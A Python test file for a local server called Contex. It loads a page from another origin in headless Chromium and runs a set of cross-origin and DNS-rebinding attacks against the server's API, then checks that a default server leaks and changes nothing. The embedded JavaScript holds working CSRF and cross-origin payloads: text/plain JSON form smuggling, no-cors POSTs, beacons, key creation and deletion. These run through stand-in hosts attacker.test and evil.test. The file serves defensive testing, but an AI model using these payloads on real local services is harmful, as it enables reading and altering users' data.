"""Pages of other origins, in a real browser, against a default server: they read nothing and change nothing. The same pages against a
server whose operator has let them in get everything, so that the attacks are known to work.

A browser is needed: Chromium of Debian (tools/conformance installs it where it may). Without one these tests are skipped, and say so."""
import contextlib
import http.client
import http.server
import json
import os
import shutil
import signal
import subprocess
import tempfile
import threading
import time

import pytest

from support import HOST, Server

BROWSER = os.environ.get("CONTEX_BROWSER") or next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
pytestmark = pytest.mark.skipif(
    not BROWSER or not shutil.which(BROWSER), reason="no Chromium: apt-get install --no-install-recommends chromium, or name one in CONTEX_BROWSER")

# Each attack has a name, and tells what it could read. What it changed is the server's to tell.
ATTACKS = """
const found = {};
const item = name => JSON.stringify({project_id: "owned", data_key: name, data: "by a page"});
const attempt = async (name, body) => { try { found[name] = await body(); } catch (error) { found[name] = null; } };
const read = async (path, options) => { const answer = await fetch(BASE + path, options); return answer.ok ? await answer.text() : null; };
const json = {"Content-Type": "application/json"};
async function run() {
  await attempt("read", () => read("/api/v1/projects"));
  await attempt("read health", () => read("/health"));
  await attempt("read with credentials", () => read("/api/v1/projects", {credentials: "include"}));
  await attempt("read blindly", () => read("/api/v1/projects", {mode: "no-cors"}));
  await attempt("post", () => read("/api/v1/data/publish", {method: "POST", headers: json, body: item("post")}));
  await attempt("post as text", () => read("/api/v1/data/publish", {method: "POST", body: item("text")}));
  await attempt("post blindly", () => read("/api/v1/data/publish", {method: "POST", mode: "no-cors", body: item("blind")}));
  await attempt("post untyped", () => read("/api/v1/data/publish", {method: "POST", mode: "no-cors", body: new Blob([item("untyped")])}));
  await attempt("import", () => read("/api/v1/projects/owned/import", {method: "POST", mode: "no-cors",
    body: JSON.stringify({project_id: "owned", version: "1.0", data: {events: [{event_id: "1", event_type: "t", data: {import: 1}}]}})}));
  await attempt("make a key", () => read("/api/v1/auth/keys?name=owned", {method: "POST", mode: "no-cors"}));
  await attempt("delete", () => read("/api/v1/projects/kept/data/k", {method: "DELETE"}));
  await attempt("beacon", () => { navigator.sendBeacon(BASE + "/api/v1/data/publish", new Blob([item("beacon")], {type: "text/plain"})); return null; });
  await attempt("form", () => new Promise(done => {
    const frame = document.createElement("iframe"); frame.name = "sink"; document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, {method: "POST", enctype: "text/plain", target: "sink", action: BASE + "/api/v1/data/publish"});
    const field = document.createElement("input");
    Object.assign(field, {name: '{"project_id":"owned","data_key":"form","data":"', value: '"}'});
    form.append(field); document.body.append(form);
    frame.onload = () => { let text = null; try { text = frame.contentDocument.body.innerText; } catch (error) {} done(text); };
    form.submit(); setTimeout(() => done(null), 3000);
  }));
  await attempt("script", () => new Promise(done => {
    const script = document.createElement("script");
    script.onload = () => done("loaded"); script.onerror = () => done(null);
    script.src = BASE + "/api/v1/projects"; document.body.append(script);
  }));
  await fetch("/report", {method: "POST", body: JSON.stringify(found)});
}
run();
"""


class Page(http.server.BaseHTTPRequestHandler):
    """Serves the page and takes its report. Whatever else is asked for goes on to Contex under the name that the browser used: that is
    what a name does that meant the attacker's machine when the page was loaded and means this machine now."""
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def body(self):
        return self.rfile.read(int(self.headers.get("Content-Length") or 0))

    def say(self, status, headers, body):
        self.send_response(status)
        for name, value in headers:
            if name.lower() not in ("content-length", "connection", "transfer-encoding", "date", "server"):
                self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    def answer(self):
        site = self.server.site
        if self.path.startswith("/page"):
            base = "" if self.path == "/page-rebound" else site.target
            page = f"<!doctype html><body><script>const BASE = {json.dumps(base)};{ATTACKS}</script>"
            self.say(200, [("Content-Type", "text/html")], page.encode())
        elif self.path == "/report":
            site.report = json.loads(self.body())
            self.say(200, [], b"")
            site.reported.set()
        elif self.headers["Host"].startswith("evil.test"):
            connection = http.client.HTTPConnection(HOST, site.port, timeout=30)
            connection.putrequest(self.command, self.path, skip_host=True, skip_accept_encoding=True)
            for name, value in self.headers.items():
                if name.lower() != "connection":
                    connection.putheader(name, value)
            connection.endheaders(self.body())
            response = connection.getresponse()
            self.say(response.status, response.getheaders(), response.read())
            connection.close()
        else:
            self.say(404, [], b"")

    do_GET = do_POST = do_DELETE = do_OPTIONS = do_HEAD = do_PUT = answer


class Site:
    """A web site of somebody else, on a port of its own."""

    def __init__(self):
        self.http = http.server.ThreadingHTTPServer((HOST, 0), Page)
        self.http.site = self
        self.http.daemon_threads = True
        self.own_port = self.http.server_port
        threading.Thread(target=self.http.serve_forever, daemon=True).start()

    def visit(self, name, page, port, target):
        """What the page could read, by the name of each attack; nothing is None."""
        self.port, self.target, self.report, self.reported = port, target, None, threading.Event()
        with browser(f"http://{name}:{self.own_port}/{page}") as process:
            assert self.reported.wait(90), f"the page did not report (browser: {process.poll()})"
        return self.report

    def close(self):
        self.http.shutdown()
        self.http.server_close()


def arguments(folder, url, *more):
    return [BROWSER, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--disable-extensions",
            "--disable-background-networking", "--host-resolver-rules=MAP *.test 127.0.0.1", f"--user-data-dir={folder}", *more, url]


@contextlib.contextmanager
def scratch():
    """A folder for all that a browser writes, its temporary files too; a process of its that is slow to end must not leave any of it."""
    folder = tempfile.mkdtemp(prefix="contex-browser-")
    try:
        yield folder, {**os.environ, "TMPDIR": folder}
    finally:
        for _ in range(50):
            shutil.rmtree(folder, ignore_errors=True)
            if not os.path.exists(folder):
                break
            time.sleep(0.1)


def end(process):
    """The browser and whatever it has started."""
    with contextlib.suppress(ProcessLookupError):
        os.killpg(process.pid, signal.SIGKILL)
    process.wait()


@contextlib.contextmanager
def browser(url):
    with scratch() as (folder, environment):
        process = subprocess.Popen(arguments(folder, url), stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                   env=environment, start_new_session=True)
        try:
            yield process
        finally:
            end(process)


@pytest.fixture(scope="module")
def site():
    running = Site()
    yield running
    running.close()


def state(server):
    """All that the attacks are after."""
    return {
        "projects": server.call("GET", "/api/v1/projects").json, "kept": server.events("kept"), "owned": server.events("owned"),
        "keys": [key["name"] for key in server.call("GET", "/api/v1/auth/keys").json],
    }


def visits(site, server):
    port = server.http_port
    for name in ("127.0.0.1", "localhost"):
        yield f"page of another origin, {name}", site.visit("attacker.test", "page", port, f"http://{name}:{port}")
    yield "page of another port", site.visit("localhost", "page", port, f"http://localhost:{port}")
    yield "rebound name", site.visit("evil.test", "page-rebound", port, "")


def test_pages_of_others_get_nothing(site):
    with Server() as server:
        server.publish("kept", "k", {"secret": "of the developer"})
        before = state(server)
        for visit, found in visits(site, server):
            assert len(found) == 14, found
            assert {name: text for name, text in found.items() if text and text != "loaded"} == {}, visit
            assert state(server) == before, visit
        # The developer himself reads the documentation in the same browser.
        with scratch() as (folder, environment):
            shown = subprocess.run(arguments(folder, server.url + "/docs", "--dump-dom"), capture_output=True, text=True, timeout=90, env=environment)
        assert "Publish data, register needs" in shown.stdout, shown.stderr[-1000:]


def test_the_same_pages_where_they_are_let_in(site):
    """What the attacks do when nothing stands in their way but the type of a body."""
    with Server(environment={"CONTEX_CORS_ORIGINS": f"http://attacker.test:{site.own_port}", "CONTEX_ALLOWED_HOSTS": "evil.test"}) as server:
        server.publish("kept", "k", {"secret": "of the developer"})
        port = server.http_port
        found = site.visit("attacker.test", "page", port, f"http://127.0.0.1:{port}")
        assert "kept" in found["read"] and "healthy" in found["read health"] and "published" in found["post"]
        assert found["post as text"] is None
        assert [event["data"] for event in server.events("owned")] == [{"post": "by a page"}]
        rebound = site.visit("evil.test", "page-rebound", port, "")
        assert "owned" in rebound["read"] and "published" in rebound["post"]
        assert {event["event_type"] for event in server.events("owned")} == {"post_updated"}
